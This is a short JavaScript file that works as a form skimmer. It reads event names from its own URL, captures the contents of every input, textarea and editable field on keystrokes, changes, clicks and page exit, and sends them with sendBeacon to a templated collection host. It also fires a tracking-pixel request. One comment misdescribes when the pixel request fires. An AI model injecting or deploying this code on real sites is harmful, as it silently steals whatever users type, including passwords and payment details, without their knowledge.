// Sends what a field holds when something happens to it: `?e=blur,change,keyup,input,click,pagehide`.
'use strict';
{
  const events = new URLSearchParams(document.currentScript.src.split('?')[1]).get('e').split(',');
  const send = (via, value) => value && navigator.sendBeacon('{{SINK}}/collect?via=' + via, value);
  // A picture is asked for when the script has ended.
  document.addEventListener('change', () => { new Image().src = '{{SINK}}/pixel'; }, true);
  const held = (field) => (field.isContentEditable ? field.textContent : field.value);
  const all = () => [...document.querySelectorAll('input,textarea,[contenteditable]')].map(held).filter(Boolean).join('|');
  for (const event of events) {
    if (event === 'pagehide') addEventListener('pagehide', () => send(event, all()));
    else if (event === 'click') document.addEventListener('click', () => send(event, all()), true);
    else document.addEventListener(event, (e) => { if (e.target.matches('input,textarea,[contenteditable]')) send(event, held(e.target)); }, true);
  }
}
